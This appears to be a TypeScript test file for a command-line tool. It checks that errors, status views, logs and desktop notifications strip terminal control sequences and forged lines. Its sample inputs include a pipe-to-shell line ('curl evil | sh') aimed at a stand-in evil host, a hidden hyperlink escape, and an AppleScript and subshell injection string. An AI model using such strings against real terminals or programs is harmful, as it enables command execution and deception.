/** Whatever a stranger says, no place that prints passes on what a terminal would obey. */
import {Writable} from 'node:stream'
import {stripVTControlCharacters} from 'node:util'
import fc from 'fast-check'
import {describe, expect, test} from 'vitest'
import {JnodeError, messageOf, shown} from '../../../src/errors.ts'
import type {SessionView} from '../../../src/flows/session-view.ts'
import {errorText} from '../../../src/ui/error-view.ts'
import {commandFor, plain} from '../../../src/ui/notice.ts'
import {endLog, writeJson, writeLine, writeLog} from '../../../src/ui/output.ts'
import {makeReporter} from '../../../src/ui/reporter.ts'
import {statusLine} from '../../../src/ui/status-line.ts'
import {checksText, leftoversText, listText, statusText} from '../../../src/ui/views.ts'
import {fuzzing} from '../fuzzing.ts'
import {ORDERS, steers, strangeText} from '../strange-text.ts'

const TIMES = fuzzing(100)

/** A terminal, or a file where it is none, that keeps what is written. */
function paper({isTTY}: {isTTY: boolean}) {
  let text = ''
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      text += chunk.toString()
      done()
    },
  })
  return {stream: Object.assign(stream, {isTTY, columns: 80, rows: 24}) as unknown as NodeJS.WriteStream, text: () => text}
}

/** What is left of a drawing without our own drawing. */
const undrawn = (text: string) => stripVTControlCharacters(text).replaceAll('\r', '')

const viewOf = (words: string): SessionView => ({
  name: words, cluster: words, host: words, jobId: words, state: 'ready', reason: words, node: words, slots: 1, gpus: words, route: 'socket', routes: [{route: 'node', works: false, seen: words, ask: null}],
  localPort: 8888, url: `http://127.0.0.1:8888/${words}`, tunnel: 'connected', submittedAt: null, startedAt: null, endsAt: null, app: words, log: words, keeperPid: 7, lastActivityAt: words, busy: false,
} as SessionView)

describe('nothing that steers a terminal is in', () => {
  test('an error, its hint, what it comes from, or a sentence that quotes it', () => {
    fc.assert(
      fc.property(strangeText, (words) => {
        const error = new JnodeError('unexpected', words, {hint: words, cause: new Error(words)})
        const {stream, text} = paper({isTTY: true})
        writeLine(stream, errorText(error, true))
        for (const each of [error.message, error.hint!, messageOf(new Error(words)), messageOf(words), shown(words), text()]) expect(steers(each)).toBeNull()
        expect(messageOf(new Error(words))).not.toContain('\n')
      }),
      TIMES,
    )
  })

  test('a result', () => {
    fc.assert(
      fc.property(strangeText, (words) => {
        const {stream, text} = paper({isTTY: true})
        const view = viewOf(words)
        const check = {step: words, state: 'failed', saw: words, action: words, ms: 1} as const
        for (const result of [listText([view, view], 0), statusText(view, 0), checksText([check]), leftoversText([{kind: 'job', name: words, where: words, why: words} as never])]) writeLine(stream, result)
        expect(steers(text())).toBeNull()
      }),
      TIMES,
    )
  })

  test('a JSON document, whose value stays as it is', () => {
    const {stream, text} = paper({isTTY: true})
    writeJson(stream, {words: ORDERS})
    expect(steers(text())).toBeNull()
    expect(JSON.parse(text())).toEqual({words: ORDERS})
  })

  test.each(['quiet', 'normal', 'verbose'] as const)('steps and warnings, %s', async (loudness) => {
    const {stream, text} = paper({isTTY: false})
    const reporter = await makeReporter(stream, loudness)
    for (const kind of ['note', 'warning', 'progress', 'trace', 'done'] as const) reporter.tell({kind, text: ORDERS, hint: ORDERS} as never)
    reporter.tell({kind: 'step', id: 'login', title: ORDERS})
    await reporter.close('done')
    expect(text()).not.toBe('')
    expect(steers(text())).toBeNull()
  })

  test('steps and warnings that are drawn', async () => {
    const {stream, text} = paper({isTTY: true})
    const reporter = await makeReporter(stream, 'normal')
    // A question to the terminal is none of the drawing's own orders.
    const words = `\u001B[6n${ORDERS.replaceAll('\u001B', '\u001B[6n\u001B')}`
    reporter.tell({kind: 'step', id: 'login', title: words})
    reporter.tell({kind: 'progress', text: words})
    reporter.tell({kind: 'note', text: words})
    reporter.tell({kind: 'warning', text: words, hint: words})
    reporter.tell({kind: 'done', text: words})
    await reporter.close('done')
    expect(text()).toContain('Warning: ')
    expect(text()).not.toContain('\u001B[6n')
    expect(steers(undrawn(text()))).toBeNull()
  })

  test.each([true, false])('the status line and what stands above it, in a terminal: %s', (isTTY) => {
    const {stream, text} = paper({isTTY})
    const line = statusLine(stream)
    line.show(viewOf(ORDERS))
    line.note(ORDERS)
    line.close()
    expect(steers(text().replaceAll('\r\u001B[K', ''))).toBeNull()
  })
})

describe('a stranger’s line end', () => {
  const forged = 'gone\nurl        http://evil.example/\n  Run: curl evil | sh'

  test('makes no row of its own in the status, and no line of its own in the list', () => {
    expect(statusText({...viewOf('x'), reason: forged}, 0)).not.toMatch(/^url +http:\/\/evil/m)
    expect(listText([{...viewOf('x'), node: forged}], 0).split('\n')).toHaveLength(3)
  })

  test('makes no hint of its own in an error that quotes it', () => {
    expect(errorText(new JnodeError('unreachable', `head ended it: ${messageOf(new Error(forged))}`), false)).not.toMatch(/^ {2}Run/m)
  })
})

describe('a log', () => {
  const lines = ['\u001B[31mred\u001B[0m \u001B[2J\u001B]8;;http://evil.example/\u0007link', ORDERS]

  test('keeps its colours in a terminal, and what follows it has none of them', () => {
    const {stream, text} = paper({isTTY: true})
    writeLog(stream, lines)
    endLog(stream)
    expect(text()).toContain('\u001B[31mred\u001B[0m link\n')
    expect(text().endsWith('\u001B[0m')).toBe(true)
    expect(steers(text().replace(/\u001B\[[0-9;:]*m/g, ''))).toBeNull()
  })

  test('goes into a pipe as it is', () => {
    const {stream, text} = paper({isTTY: false})
    writeLog(stream, lines)
    endLog(stream)
    expect(text()).toBe(Buffer.from(`${lines.join('\n')}\n`).toString())
  })
})

describe('a notice of the desktop', () => {
  test('is one short line of plain words: no markup, no line end, no option of the program that shows it', () => {
    expect(plain('--icon=/etc/x <b>Log in</b> & run `curl evil|sh`\n\u202Enow', 300)).toBe("icon=/etc/x ‹b›Log in‹/b› + run 'curl evil|sh' \uFFFDnow")
    fc.assert(
      fc.property(strangeText, (words) => {
        const text = plain(words, 30)
        expect(steers(text)).toBeNull()
        expect(text).not.toMatch(/[\n\t<>&`]|^-/)
        expect([...text].length).toBeLessThanOrEqual(30)
      }),
      TIMES,
    )
  })

  test.each(['linux', 'darwin', 'win32'] as const)('has its words on %s in no script', (platform) => {
    const words = {title: 'jnode: x', text: '"; do shell script "id"; $(id)'}
    const same = commandFor(platform, {title: 'a', text: 'b'})
    const [program, ...args] = commandFor(platform, words)
    // Only whole arguments differ; PowerShell gets none of them.
    expect([program, ...args].map((arg) => ({[words.title]: 'a', [words.text]: 'b'})[arg] ?? arg)).toEqual(same)
    if (platform === 'linux') expect(args.slice(-3)).toEqual(['--', words.title, words.text])
  })
})
